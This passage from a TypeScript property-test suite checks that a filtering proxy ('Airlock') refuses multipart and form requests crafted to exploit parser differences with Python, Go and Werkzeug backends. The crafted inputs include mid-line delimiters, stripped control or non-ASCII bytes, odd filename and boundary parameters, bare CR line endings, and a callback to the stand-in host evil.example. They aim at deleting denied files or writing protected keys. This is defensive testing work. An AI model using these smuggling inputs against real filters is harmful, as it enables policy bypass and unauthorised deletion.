      const [type, evil] = bodies[shape]('https://evil.example/cb', esc);
      // (One cut near the callback itself, where an escape or the value's start stands.)
      const at = evil.indexOf('evil.example') - 30 + near;
      if (await run(type, Buffer.from(evil), [...cuts, at]) !== 'stopped') return false;
      const [, control] = bodies[shape]('urn:none', esc);
      return await run(type, Buffer.from(control), [...cuts, at]) === 'whole';
    },
  ), { numRuns: 40, ...seed });
});

t.test('property: a form part whose own head holds the delimiter mid-line is still read by its name, as RFC 2046 parsers read it', async (t) => {
  // Eighteenth pass: `Content-Disposition: form-data; name="batch"; x="--X"` cut the part at the `--X`
  // for Airlock's reading (a delimiter wherever it stands), which then found no name; Python's email
  // (and Go, busboy, Rack 3) take a delimiter only where a line begins, and ran the batch.
  const post = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch(path, 'multipart/form-data; boundary=X', body, tunnel);
  const heads = {
    'a parameter after the name': (name: string): string => `Content-Disposition: form-data; name="${name}"; x="--X"`,
    'a parameter before the name': (name: string): string => `Content-Disposition: form-data; x="a--X"; name="${name}"`,
    'a header after it': (name: string): string => `Content-Disposition: form-data; name="${name}"\r\nX-Note: see --X`,
  };
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const before0 = pyBatchLog.length;
  t.match((await post('/', `--X\r\n${heads['a parameter after the name']('batch')}\r\n\r\n${calls('ok/b.txt')}\r\n--X--\r\n`, false)).text, /^HTTP\/1\.1 200/, 'control: such a batch of allowed calls goes through');
  t.match(pyBatchLog.slice(before0), /FIELD batch=/, 'control: the server read the field');
  await fc.assert(fc.asyncProperty(
    fc.record({ head: fc.constantFrom(...(Object.keys(heads) as Array<keyof typeof heads>)), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ head, shape, tunnel }) => {
      const before = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `--X\r\n${heads[head]('batch')}\r\n\r\n${calls('deny/secret.txt')}\r\n--X--\r\n`]
        : ['/ok', `--X\r\n${heads[head]('key')}\r\n\r\nprotected/keep.txt\r\n--X\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n--X--\r\n`];
      const [res] = parseResponses((await post(path, body, tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
});


t.test('property (twenty-seventh pass): a Content-Type holding a byte outside ASCII (NEL, no-break space), which Python\'s frameworks strip and then read a form, is refused', async (t) => {
  // `Content-Type: application/x-www-form-urlencoded<0x85>` (or NEL before `multipart/form-data`):
  // Node keeps the byte (obs-text), so Airlock's readers saw an opaque type and read no field, while
  // Werkzeug (Flask), Django and Python's email strip it with str.strip() and read the form, here a
  // Graph API `batch` naming /deny or an S3 form upload's key under protected/.
  const send = (path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const pHost = `allowed.example:${pyBatchPort}`;
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
    const bytes = (s: string): Buffer => Buffer.from(s, 'latin1');
    return tunnel
      ? rawToProxy(a.port, bytes(`CONNECT ${pHost} HTTP/1.1\r\nHost: ${pHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${pHost}\r\n${head}`), { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, bytes(`POST http://${pHost}${path} HTTP/1.1\r\nHost: ${pHost}\r\n${auth}${head}`), { responses: 1 });
  };
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const form = (target: string): string => `batch=${encodeURIComponent(calls(target))}`;
  const multipart = (name: string, value: string, file: boolean): string => `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n${file ? '--X\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n' : ''}--X--\r\n`;
  const before0 = pyBatchLog.length;
  t.match((await send('/', 'application/x-www-form-urlencoded', form('ok/b.txt'), false)).text, /^HTTP\/1\.1 200/, 'control: a form batch of allowed calls goes through');
  t.match((await send('/', 'multipart/form-data; boundary=X', multipart('batch', calls('ok/b.txt'), false), true)).text, /^HTTP\/1\.1 200/, 'control: a multipart one too (tunneled)');
  t.match(pyBatchLog.slice(before0), /FIELD batch=[^]*FIELD batch=/, 'control: the server read both');
  const nel = '\x85';
  const nbsp = '\xa0';
  await fc.assert(fc.asyncProperty(
    fc.record({
      kind: fc.constantFrom('form', 'multipart batch', 'multipart upload key'),
      blank: fc.constantFrom(nel, nbsp, ` ${nel}`, `${nel}${nel}`),
      before: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ kind, blank, before, tunnel }) => {
      const type = kind === 'form' ? 'application/x-www-form-urlencoded' : 'multipart/form-data';
      const spelled = before ? `${blank}${type}` : `${type}${blank}`;
      const [path, ct, body] = kind === 'form' ? ['/', spelled, form('deny/secret.txt')]
        : kind === 'multipart batch' ? ['/', `${spelled}; boundary=X`, multipart('batch', calls('deny/secret.txt'), false)]
        : ['/ok', `${spelled}; boundary=X`, multipart('key', 'protected/keep.txt', true)];
      const start = pyBatchLog.length;
      const [res] = parseResponses((await send(path, ct, body, tunnel)).text);
      const got = pyBatchLog.slice(start);
      return res !== undefined && res.status === 400 && isProblem(res) && /outside ASCII/.test(JSON.parse(res.body).detail) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: 12, ...seed });
});

t.test('property (twenty-seventh pass): a part name spelled with the blanks Python strips (0x1c-0x1f, VT, FF) around the parameter, its value or the header\'s name is read by that name, as Python\'s email and Werkzeug read it', async (t) => {
  // `Content-Disposition: form-data;\x1fname="batch"` (or `name\x1c=\x1dbatch`, `name=\x1f"batch"`,
  // `Content-Disposition\x1f:`): Python's str.strip() and `\s` take 0x1c-0x1f for whitespace, so
  // Python's email package (and Django) and Werkzeug read the part as `batch`; JavaScript's trim
  // does not, and Airlock read it by no name: the server ran the Graph batch naming /deny.
  const post = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch(path, 'multipart/form-data; boundary=X', body, tunnel);
  const heads: Record<string, (b: string, name: string) => string> = {
    'before the parameter': (b, name) => `Content-Disposition: form-data;${b}name="${name}"`,
    'around the equals sign': (b, name) => `Content-Disposition: form-data; name${b}=${b}${name}`,
    'before a quoted value': (b, name) => `Content-Disposition: form-data; name=${b}"${name}"`,
    'around a bare value': (b, name) => `Content-Disposition: form-data; name=${b}${name}${b}`,
    'before the colon': (b, name) => `Content-Disposition${b}: form-data; name=${name}`,
  };
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const before0 = pyBatchLog.length;
  t.match((await post('/', `--X\r\n${heads['before the parameter']!('\x1f', 'batch')}\r\n\r\n${calls('ok/b.txt')}\r\n--X--\r\n`, false)).text, /^HTTP\/1\.1 200/, 'control: such a batch of allowed calls goes through');
  t.match(pyBatchLog.slice(before0), /FIELD batch=/, 'control: the server read the field by that name');
  await fc.assert(fc.asyncProperty(
    fc.record({ head: fc.constantFrom(...Object.keys(heads)), blank: fc.constantFrom('\x1c', '\x1d', '\x1e', '\x1f', '\x0b', '\x0c'), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ head, blank, shape, tunnel }) => {
      const before = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `--X\r\n${heads[head]!(blank, 'batch')}\r\n\r\n${calls('deny/secret.txt')}\r\n--X--\r\n`]
        : ['/ok', `--X\r\n${heads[head]!(blank, 'key')}\r\n\r\nprotected/keep.txt\r\n--X\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n--X--\r\n`];
      const [res] = parseResponses((await post(path, body, tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: 14, ...seed });
});

t.test('property (twenty-seventh pass): a part whose file name Go or Werkzeug does not read (`filename=""`, `filename*=utf-8\'\'`, `filename=/tmp/x`, `filename=(x)`, `filename= "x"`) is read as a form field, as they read it', async (t) => {
  // Go's `Part.FileName()` is "" for an empty name and `ReadForm` keeps such a part as a value
  // (`r.FormValue("batch")`, MinIO's form uploads; checked with `go run` of net/http); Werkzeug
  // takes no file name that is not a token or quoted string right after `=`, and Flask's
  // `request.form` holds the part; Python's email reads every named part: Airlock's readers skipped
  // the part as an upload, and the server ran a Graph batch naming /deny or took an upload key
  // under protected/.
  const post = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch(path, 'multipart/form-data; boundary=X', body, tunnel);
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const before0 = pyBatchLog.length;
  t.match((await post('/', `--X\r\nContent-Disposition: form-data; name="batch"; filename=""\r\n\r\n${calls('ok/b.txt')}\r\n--X--\r\n`, false)).text, /^HTTP\/1\.1 200/, 'control: such a batch of allowed calls goes through');
  t.match(pyBatchLog.slice(before0), /FIELD batch=/, 'control: the server read it');
  t.match((await post('/', `--X\r\nContent-Disposition: form-data; name="batch"; filename="calls.json"\r\n\r\n${calls('ok/c.txt')}\r\n--X--\r\n`, false)).text, /^HTTP\/1\.1 200/, 'control: a file named calls.json is an upload, not a batch');
  await fc.assert(fc.asyncProperty(
    fc.record({ file: fc.constantFrom('filename=""', 'FILENAME=""', "filename*=utf-8''", 'filename=""; x=1', 'filename=/tmp/calls.json', 'filename=(calls)', 'filename= "calls.json"'), before: fc.boolean(), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ file, before, shape, tunnel }) => {
      const disposition = (name: string): string => (before ? `Content-Disposition: form-data; ${file}; name="${name}"` : `Content-Disposition: form-data; name="${name}"; ${file}`);
      const start = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `--X\r\n${disposition('batch')}\r\n\r\n${calls('deny/secret.txt')}\r\n--X--\r\n`]
        : ['/ok', `--X\r\n${disposition('key')}\r\n\r\nprotected/keep.txt\r\n--X\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n--X--\r\n`];
      const [res] = parseResponses((await post(path, body, tunnel)).text);
      const got = pyBatchLog.slice(start);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: 12, ...seed });
});

t.test('property (twenty-seventh pass): a boundary parameter as Python\'s email and cgi read it (quotes not closing the value, `<…>`) is read; one read in more ways than Airlock reads is refused', async (t) => {
  // `boundary="B"x` is the boundary `"B"x` to Python's email (`get_boundary`: a value is unquoted
  // only when it both starts and ends with a quote), `boundary="B` is `"B`, `boundary=<B>` is `B`
  // (email.utils.unquote): Airlock read the boundary `B` (or `<B>`), found no part, and the server
  // read a Graph batch naming /deny or an upload key under protected/.
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const spellings: Array<[string, string]> = [['"B"x', '"B"x'], ['"B"-x', '"B"-x'], ['"B', '"B'], ['<B>', 'B'], ['"B"x ', '"B"x']];
  await fc.assert(fc.asyncProperty(
    fc.record({ spelling: fc.constantFrom(...spellings), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ spelling: [param, delimiter], shape, tunnel }) => {
      const d = `--${delimiter}`;
      const start = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `${d}\r\nContent-Disposition: form-data; name="batch"\r\n\r\n${calls('deny/secret.txt')}\r\n${d}--\r\n`]
        : ['/ok', `${d}\r\nContent-Disposition: form-data; name="key"\r\n\r\nprotected/keep.txt\r\n${d}\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n${d}--\r\n`];
      const [res] = parseResponses((await postToPyBatch(path, `multipart/form-data; boundary=${param}`, body, tunnel)).text);
      const got = pyBatchLog.slice(start);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: 10, ...seed });
  // Three more boundary parameters pushed Python's reading of the first past the readings Airlock keeps.
  const [crowded] = parseResponses((await postToPyBatch('/', 'multipart/form-data; boundary="B"x; boundary=C; boundary=D; boundary=E', `--"B"x\r\nContent-Disposition: form-data; name="batch"\r\n\r\n${calls('deny/secret.txt')}\r\n--"B"x--\r\n`, false)).text);
  t.ok(crowded?.status === 400 && isProblem(crowded) && /more ways/.test(JSON.parse(crowded.body).detail), `a boundary read in more ways than Airlock reads: 400 (${crowded?.status})`);
  const before = pyBatchLog.length;
  t.match((await postToPyBatch('/', 'multipart/form-data; boundary="B C"', `--B C\r\nContent-Disposition: form-data; name="batch"\r\n\r\n${calls('ok/b.txt')}\r\n--B C--\r\n`, true)).text, /^HTTP\/1\.1 200/, 'control: a quoted boundary with a blank goes through');
  t.match(pyBatchLog.slice(before), /FIELD batch=/, 'control: and the server read it');
});

t.test('property (twenty-seventh pass): a multipart body whose lines end with a bare CR (or whose head ends with `\\r\\r`) is read as Werkzeug reads it', async (t) => {
  // Werkzeug's MultipartDecoder (Flask) takes CRLF, LF and CR alone for line breaks and `\r\r` for
  // the blank line after a part's head: `--X\rContent-Disposition: form-data; name="batch"\r\r[…]`
  // is the field `batch` to Flask, while Airlock's readers of CRLF and LF lines found no part, and
  // the server read a Graph batch naming /deny or an upload key under protected/.
  const post = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch(path, 'multipart/form-data; boundary=X', body, tunnel);
  const calls = (target: string): string => JSON.stringify([{ method: 'DELETE', relative_url: target }]);
  const part = (eol: string, blank: string, name: string, value: string): string => `--X${eol}Content-Disposition: form-data; name="${name}"${blank}${value}${eol}`;
  const before0 = pyBatchLog.length;
  t.match((await post('/', `${part('\r', '\r\r', 'batch', calls('ok/b.txt'))}--X--\r`, false)).text, /^HTTP\/1\.1 200/, 'control: such a batch of allowed calls goes through');
  t.match(pyBatchLog.slice(before0), /FIELD batch=/, 'control: and the server read it');
  await fc.assert(fc.asyncProperty(
    fc.record({ eol: fc.constantFrom('\r', '\r\n', '\n'), blank: fc.constantFrom('\r\r', '\r\r\n', '\n\r\r', '\r\n\r\r'), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ eol, blank, shape, tunnel }) => {
      const start = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `${part(eol, blank, 'batch', calls('deny/secret.txt'))}--X--${eol}`]
        : ['/ok', `${part(eol, blank, 'key', 'protected/keep.txt')}--X${eol}Content-Disposition: form-data; name="file"; filename="f.txt"${eol}${eol}data${eol}--X--${eol}`];
      const [res] = parseResponses((await post(path, body, tunnel)).text);
      const got = pyBatchLog.slice(start);
      // (A head ending `\r\r\n` leaves the data an LF first, to Werkzeug too: the key `\nprotected/…`,
      // another object, which the policy decides as such and may allow; the protected key is never read.)
      const refused = res !== undefined && [400, 403].includes(res.status) && isProblem(res);
      return (refused || (shape === 'form upload key' && res?.status === 200)) && !got.includes('deny/secret') && !/FIELD key=protected\//.test(got);
    },
  ), { numRuns: 12, ...seed });
  // Past the capture cap the form tail reads each part head as it leaves (a head a bare CR ends is
  // read up to the next blank line it knows, or refused as too long): refused as before.
  for (const tunnel of [false, true]) {
    const start = pyBatchLog.length;
    const body = `${part('\r', '\r\r', 'pad', 'p'.repeat(3000))}${part('\r', '\r\r', 'batch', calls('deny/secret.txt'))}--X--\r`;
    const [res] = parseResponses((await post('/', body, tunnel)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `a bare-CR batch part past the capture cap${tunnel ? ', tunneled' : ''}: refused (${res?.status})`);
    t.notOk(pyBatchLog.slice(start).includes('deny/secret'), 'and the server never read it');
  }
});
